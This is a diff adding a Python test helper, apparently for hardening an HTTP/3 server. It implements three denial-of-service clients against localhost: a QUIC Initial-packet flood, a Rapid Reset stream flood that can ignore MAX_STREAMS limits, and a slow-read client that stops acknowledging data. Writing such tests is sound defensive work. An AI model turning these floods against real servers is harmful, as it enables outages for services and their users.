@@ -1,0 +1,173 @@
+#!/usr/bin/env python3
+"""Misbehaving QUIC clients for the attack tests, on aioquic's sans-IO
+QuicConnection and a raw UDP socket.
+
+h3raw.py initial-flood --port P --count N
+    N connection attempts from one socket: each a fresh client's first
+    Initial datagram (a real ClientHello, so the server must act on it),
+    never followed up. Prints {"sent": N, "retries": R, "other": O}: the
+    datagrams that came back, Retry packets (RFC 9000 §17.2.5) apart.
+h3raw.py stream-flood --port P --path PATH --count N --hold S [--obey]
+    One connection that opens N request streams for PATH and resets each
+    at once (HTTP/2's Rapid Reset, on QUIC), for S seconds, answering
+    the server's packets all along; with --obey only as many as the
+    server's MAX_STREAMS allows, else past it. Prints {"opened": n,
+    "closed": whether the server closed the connection, "error": code}.
+h3raw.py stall --port P --path PATH
+    A client that completes the handshake, asks for PATH, takes a few
+    datagrams and then never reads (nor acknowledges) again; it keeps its
+    socket open for --hold seconds. Prints {"received": bytes}.
+"""
+import argparse
+import json
+import os
+import socket
+import ssl
+import time
+
+from aioquic.h3.connection import H3_ALPN, H3Connection
+from aioquic.quic.configuration import QuicConfiguration
+from aioquic.quic.connection import QuicConnection
+
+
+def timer(q):
+    """Runs the connection's timer if it is due."""
+    t = q.get_timer()
+    if t is not None and time.time() >= t:
+        q.handle_timer(now=time.time())
+
+
+def config():
+    c = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="localhost")
+    c.verify_mode = ssl.CERT_NONE
+    return c
+
+
+def initial_flood(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+    addr = ("127.0.0.1", a.port)
+    sent = 0
+    for _ in range(a.count):
+        q = QuicConnection(configuration=config())
+        q.connect(addr, now=time.time())
+        for data, _ in q.datagrams_to_send(now=time.time()):
+            s.sendto(data, addr)
+            sent += 1
+            break
+    retries = other = 0
+    s.settimeout(1.0)
+    while True:
+        try:
+            data, _ = s.recvfrom(65536)
+        except socket.timeout:
+            break
+        # A long header (0x80) of type Retry (0x30) in version 1.
+        if data[0] & 0xB0 == 0xB0 and data[1:5] == b"\x00\x00\x00\x01":
+            retries += 1
+        else:
+            other += 1
+    print(json.dumps({"sent": sent, "retries": retries, "other": other}), flush=True)
+
+
+def stall(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    addr = ("127.0.0.1", a.port)
+    q = QuicConnection(configuration=config())
+    q.connect(addr, now=time.time())
+    h3 = None
+    sid = None
+    received = 0
+    s.settimeout(0.05)
+    deadline = time.time() + 20
+    while time.time() < deadline:
+        for data, _ in q.datagrams_to_send(now=time.time()):
+            s.sendto(data, addr)
+        if h3 is None and q._handshake_complete:
+            h3 = H3Connection(q)
+            sid = q.get_next_available_stream_id()
+            h3.send_headers(sid, [
+                (b":method", b"GET"), (b":scheme", b"https"),
+                (b":authority", b"localhost"), (b":path", a.path.encode()),
+            ], end_stream=True)
+            continue
+        try:
+            data, _ = s.recvfrom(65536)
+        except socket.timeout:
+            timer(q)
+            continue
+        received += len(data)
+        q.receive_datagram(data, addr, now=time.time())
+        while q.next_event() is not None:
+            pass
+        if received > a.take:
+            break
+    # From here on: no reads, no acknowledgements, the socket still open.
+    print(json.dumps({"received": received}), flush=True)
+    time.sleep(a.hold)
+    os._exit(0)
+
+
+def stream_flood(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    addr = ("127.0.0.1", a.port)
+    q = QuicConnection(configuration=config())
+    q.connect(addr, now=time.time())
+    h3 = None
+    opened = 0
+    s.settimeout(0.01)
+    deadline = time.time() + a.hold
+    while time.time() < deadline:
+        if h3 is None and q._handshake_complete:
+            h3 = H3Connection(q)
+        if h3 is not None and opened < a.count:
+            # As many as the server's MAX_STREAMS lets through now.
+            for _ in range(16):
+                if opened >= a.count:
+                    break
+                # --obey: within the server's MAX_STREAMS (RFC 9000
+                # §4.6); without it, past it.
+                if a.obey and opened >= q._remote_max_streams_bidi:
+                    break
+                sid = q.get_next_available_stream_id()
+                h3.send_headers(sid, [
+                    (b":method", b"GET"), (b":scheme", b"https"),
+                    (b":authority", b"localhost"), (b":path", a.path.encode()),
+                ], end_stream=True)
+                q.reset_stream(sid, 0x10C)  # H3_REQUEST_CANCELLED
+                opened += 1
+        for data, _ in q.datagrams_to_send(now=time.time()):
+            s.sendto(data, addr)
+        try:
+            data, _ = s.recvfrom(65536)
+            q.receive_datagram(data, addr, now=time.time())
+            while q.next_event() is not None:
+                pass
+        except socket.timeout:
+            timer(q)
+    closed = q._close_event is not None
+    print(json.dumps({"opened": opened, "closed": closed,
+                      "error": getattr(q._close_event, "error_code", None)}), flush=True)
+    os._exit(0)
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("mode", choices=["initial-flood", "stall", "stream-flood"])
+    ap.add_argument("--port", type=int, required=True)
+    ap.add_argument("--count", type=int, default=1000)
+    ap.add_argument("--path", default="/")
+    ap.add_argument("--take", type=int, default=64 << 10)
+    ap.add_argument("--hold", type=float, default=30)
+    ap.add_argument("--obey", action="store_true")
+    a = ap.parse_args()
+    if a.mode == "initial-flood":
+        initial_flood(a)
+    elif a.mode == "stream-flood":
+        stream_flood(a)
+    else:
+        stall(a)
+
+
+if __name__ == "__main__":
+    main()
